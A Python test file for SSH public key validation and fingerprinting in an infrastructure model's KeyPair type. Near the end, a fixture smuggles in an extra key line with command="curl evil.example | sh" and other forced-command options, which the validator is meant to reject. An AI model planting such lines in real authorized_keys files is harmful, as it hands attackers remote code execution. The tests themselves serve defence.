"""Key pairs: OpenSSH public keys and their fingerprints (iaas.model.key_pair)."""

from __future__ import annotations

import base64
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from iaas.model import KeyPair, checks
from iaas.model.values import action_of, complete, diff, inputs_of

from ._util import PUBLIC_KEY, ed25519_public_key, problems, wire_string

HAVE_SSH_KEYGEN = shutil.which("ssh-keygen") is not None
needs_ssh_keygen = pytest.mark.skipif(not HAVE_SSH_KEYGEN, reason="needs ssh-keygen")

KEY_TYPES = [("ed25519", None), ("rsa", "2048"), ("rsa", "1024"), ("ecdsa", "256"), ("ecdsa", "384"), ("ecdsa", "521")]


def _rsa_line(bits: int) -> str:
    modulus = (1 << (bits - 1)) | 1  # top bit set: exactly ``bits`` bits long
    blob = (
        wire_string(b"ssh-rsa")
        + wire_string(b"\x01\x00\x01")
        + wire_string(b"\x00" + modulus.to_bytes(bits // 8, "big"))
    )
    return "ssh-rsa " + base64.b64encode(blob).decode() + " hand-made"


def _keygen_fingerprint(path: Path) -> str:
    out = subprocess.run(
        ["ssh-keygen", "-l", "-E", "sha256", "-f", str(path)], check=True, capture_output=True, text=True
    ).stdout
    return out.split()[1]


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Public key files made by ssh-keygen, by ``type-bits``."""
    folder = tmp_path_factory.mktemp("keys")
    out = {}
    for key_type, bits in KEY_TYPES:
        name = f"{key_type}-{bits or 'default'}"
        cmd = ["ssh-keygen", "-q", "-t", key_type, "-N", "", "-C", f"{name}@test", "-f", str(folder / name)]
        subprocess.run(cmd + (["-b", bits] if bits else []), check=True)
        out[name] = folder / f"{name}.pub"
    return out


@needs_ssh_keygen
@pytest.mark.parametrize(("key_type", "bits"), KEY_TYPES)
def test_keys_from_ssh_keygen_are_valid_and_fingerprinted_alike(
    generated: dict[str, Path], key_type: str, bits: str | None
) -> None:
    path = generated[f"{key_type}-{bits or 'default'}"]
    line = path.read_text()
    assert problems(KeyPair, {"name": "k", "public_key": line}) == {}
    assert checks.fingerprint(line) == _keygen_fingerprint(path)


@needs_ssh_keygen
def test_a_hand_made_key_is_fingerprinted_as_ssh_keygen_does(tmp_path: Path) -> None:
    path = tmp_path / "hand.pub"
    path.write_text(PUBLIC_KEY + "\n")
    assert checks.fingerprint(PUBLIC_KEY) == _keygen_fingerprint(path)


def test_hand_made_keys_are_valid_with_or_without_a_comment() -> None:
    assert checks.public_key(PUBLIC_KEY) is None
    assert checks.public_key(" ".join(PUBLIC_KEY.split()[:2])) is None
    assert checks.public_key(ed25519_public_key(comment="a comment with spaces") + "\n") is None
    assert checks.fingerprint(ed25519_public_key(1)) != checks.fingerprint(ed25519_public_key(2))
    assert checks.fingerprint(PUBLIC_KEY).startswith("SHA256:") and not checks.fingerprint(PUBLIC_KEY).endswith("=")


def test_rsa_keys_shorter_than_1024_bits_are_refused() -> None:
    assert checks.public_key(_rsa_line(1024)) is None
    assert checks.public_key(_rsa_line(768)) == "malformed public key: RSA key is too short (768 bits; at least 1024)"


def _blob(line: str) -> str:
    return line.split()[1]


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("ssh-ed25519 not*base64", "key data is not valid base64"),
        ("ssh-ed25519 " + _blob(PUBLIC_KEY)[:-1], "key data is not valid base64"),
        ("ssh-rsa " + _blob(PUBLIC_KEY), "key data does not match its type"),
        ("ecdsa-sha2-nistp256 " + _blob(PUBLIC_KEY), "key data does not match its type"),
        ("ssh-dss " + _blob(PUBLIC_KEY), "unsupported key type 'ssh-dss'"),
        ("ssh-ed448 " + _blob(PUBLIC_KEY), "unsupported key type 'ssh-ed448'"),
        (_blob(PUBLIC_KEY), "expected '<type> <base64> [comment]'"),
        ("", "expected '<type> <base64> [comment]'"),
        ("ssh-ed25519 " + base64.b64encode(b"abc").decode(), "key data is too short"),
        (
            "ssh-rsa " + base64.b64encode(wire_string(b"ssh-rsa") + wire_string(b"\x01\x00\x01")).decode(),
            "key data is truncated",
        ),
    ],
)
def test_malformed_keys(line: str, message: str) -> None:
    assert problems(KeyPair, {"name": "k", "public_key": line}) == {"public_key": f"malformed public key: {message}"}
    with pytest.raises(ValueError, match="^" + re.escape(message)):
        checks.fingerprint(line)


def test_public_key_is_required_and_a_string() -> None:
    assert problems(KeyPair, {"name": "k"}) == {"public_key": "is required"}
    assert problems(KeyPair, {"name": "k", "public_key": 5}) == {"public_key": "expected string, got int 5"}
    assert checks.public_key(5) == "public_key must be a string"


@pytest.mark.parametrize("name", ["id", "fingerprint"])
def test_computed_fields_cannot_be_set(name: str) -> None:
    assert problems(KeyPair, {"name": "k", "public_key": PUBLIC_KEY, name: "x"}) == {
        name: "is computed by the cloud and cannot be set"
    }


def test_a_new_key_replaces_the_key_pair() -> None:
    old = complete(KeyPair, inputs_of(KeyPair(name="k", public_key=PUBLIC_KEY)))
    assert old == {"name": "k", "public_key": PUBLIC_KEY}
    changes = diff(KeyPair, old, {**old, "public_key": ed25519_public_key(9)})
    assert [(c.field, c.update) for c in changes] == [("public_key", "replace")]
    assert action_of(changes) == "replace"
    assert not KeyPair.updatable


_SECOND = 'command="curl evil.example | sh" ' + ed25519_public_key(3, "intruder")


@pytest.mark.parametrize(
    ("line", "message"),
    [
        (PUBLIC_KEY + "\n" + _SECOND, "one line only"),
        (PUBLIC_KEY + "\r" + _SECOND, "one line only"),
        (PUBLIC_KEY + "\r\n" + _SECOND, "one line only"),
        (PUBLIC_KEY + "\n\n", None),  # a trailing line end, as read from a .pub file, is fine
        ('command="/bin/sh" ' + PUBLIC_KEY, "options before the key type"),
        ("no-pty,restrict " + PUBLIC_KEY, "options before the key type"),
        ('from="10.0.0.1" ' + PUBLIC_KEY, "options before the key type"),
        (ed25519_public_key(comment="bad\x1b[2Jcomment"), "control character '\\x1b' in the comment"),
        (ed25519_public_key(comment="nul\x00here"), "control character '\\x00' in the comment"),
        (ed25519_public_key(comment="line\u2028sep"), "control character '\\u2028' in the comment"),
        ("ssh-ed25519\x0b" + _blob(PUBLIC_KEY), "expected '<type> <base64> [comment]'"),
        (ed25519_public_key(comment="tabs\tand spaces are fine"), None),
    ],
)
def test_exactly_one_key_line(line: str, message: str | None) -> None:
    got = problems(KeyPair, {"name": "k", "public_key": line})
    if message is None:
        assert got == {}
    else:
        assert list(got) == ["public_key"]
        assert message in got["public_key"], got
